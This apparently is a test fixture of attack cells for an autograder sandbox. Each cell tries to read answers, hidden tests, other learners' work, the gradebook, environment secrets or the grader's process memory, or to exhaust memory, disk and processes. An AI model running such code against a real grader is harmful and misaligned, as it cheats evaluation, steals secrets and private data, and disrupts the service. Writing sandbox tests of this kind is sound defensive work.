# ruff: noqa
# Code that reads or takes what it must not. Each prints LOOT: and what it got.

# %% attack="the answers, from the source folder" canary="CANARY-HIDDEN"
print("LOOT:", open("../../../source/mini/mini.ipynb").read())

# %% attack="hidden tests, from the notebook being graded" canary="CANARY-HIDDEN"
print("LOOT:", open("mini.ipynb").read())


# %% attack="hidden tests, from the running cell" canary="CANARY-HIDDEN"
def share(part, whole):
    print("LOOT:", In[-1])


# %% attack="hidden tests, from the stack" canary="CANARY-HIDDEN"
import inspect


def share(part, whole):
    print("LOOT:", inspect.getsource(inspect.currentframe().f_back))


# %% attack="another learner's work" canary="CANARY-OTHER"
print("LOOT:", open("../../../submitted/honest/mini/mini.ipynb").read())

# %% attack="the gradebook" canary="CANARY-BOOK"
print("LOOT:", open("../../../gradebook.db", "rb").read())

# %% attack="the instructor's home" canary="CANARY-HOME"
import os

print("LOOT:", open(os.environ["REAL_HOME"] + "/secret.txt").read())

# %% attack="environment variables" canary="CANARY-ENV"
import os

print("LOOT:", dict(os.environ))

# %% attack="the grader's environment, through /proc" canary="CANARY-ENV"
import os

print("LOOT:", open(f"/proc/{os.getppid()}/environ").read())

# %% attack="the grader's memory" canary="memory read"
import os
import re

for line in open(f"/proc/{os.getppid()}/maps"):
    low, high = (int(n, 16) for n in re.match(r"(\w+)-(\w+) r", line).groups())
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        memory.seek(low)
        if memory.read(64):
            print("LOOT:", "memory", "read")
    break

# %% attack="what else runs on the machine" canary="nbgrader-autograde"
import glob

lines = [open(p, "rb").read().replace(b"\0", b"-") for p in glob.glob("/proc/[0-9]*/cmdline")]
print("LOOT:", [line for line in lines if b"autograde" in line])

# %% attack="a server on the machine's own network" canary="CANARY-NET"
import socket

print("LOOT:", socket.create_connection(("127.0.0.1", 47113), timeout=3).recv(100))

# %% attack="a signal to the grader" canary="it may be signalled"
import os

os.kill(os.getppid(), 0)
print("LOOT:", "it may", "be signalled") if os.getppid() else None

# %% attack="a link in the submission" canary="CANARY-HIDDEN" link="peek.txt"
print("LOOT:", open("peek.txt").read())

# %% attack="a hard link in the submission" canary="CANARY-HIDDEN" hardlink="peek.txt"
print("LOOT:", open("peek.txt").read())

# %% attack="1.5 GB of memory" canary="took 1536"
taken = [bytearray(b"x") * (1 << 20) for _ in range(1536)]
print("LOOT:", "took", len(taken))

# %% attack="memory in files without a name" canary="took 600"
import os

held = os.memfd_create("held")
for _ in range(600):
    os.write(held, bytes(1 << 20))
print("LOOT:", "took", os.fstat(held).st_size >> 20)

# %% attack="a file of 300 MB" canary="wrote 300"
with open("big", "wb") as file:
    for _ in range(300):
        file.write(bytes(1 << 20))
print("LOOT:", "wrote", file.name and 300)

# %% attack="200 MB in small files" canary="wrote 200"
import os

os.makedirs("many")
for i in range(2000):
    open(f"many/{i}", "wb").write(bytes(100 << 10))
print("LOOT:", "wrote", len(os.listdir("many")) // 10)

# %% attack="100 processes" canary="started 100"
import os
import time

children = []
for _ in range(100):
    child = os.fork()
    if child == 0:
        time.sleep(2)
        os._exit(0)
    children.append(child)
print("LOOT:", "started", len(children))
